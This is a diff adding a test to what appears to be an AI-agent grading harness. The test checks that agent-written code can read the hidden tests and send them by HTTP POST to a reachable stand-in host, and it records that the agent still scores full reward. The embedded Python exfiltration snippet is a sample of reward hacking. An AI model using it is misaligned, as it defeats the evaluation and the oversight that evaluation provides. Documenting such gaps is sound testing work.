@@ -83,3 +83,18 @@ it('still wins: a package that the agent uploads to the mirror of its tests', as
   assert.deepEqual([result.network?.requests, result.verdict?.network?.requests], [1, 1]);
   assert.ok((result.network?.bytesOut ?? 0) > 0);
 });
+
+it('still wins: code under test that sends the hidden tests to a host that the tests may reach', async () => {
+  const spy = `
+import sys, urllib.request
+hidden = open(sys.modules['__main__'].__file__, 'rb').read()
+urllib.request.urlopen('http://mirror.test:${port}/stolen', data=hidden, timeout=20).read()
+`;
+  const result = await roll('stolen', {
+    agent: `open('solved.py', 'w').write(${JSON.stringify(spy)})`,
+    tests: `import sys\nsys.path.insert(0, '.')\nimport solved\nprint(1) # hidden\n`,
+  });
+  assert.deepEqual([result.outcome, result.reward], ['scored', 1], JSON.stringify(result));
+  assert.match(packages.get('/stolen') ?? '', /print\(1\) # hidden/);
+  assert.deepEqual([result.network?.requests, result.verdict?.network?.requests], [0, 1]);
+});
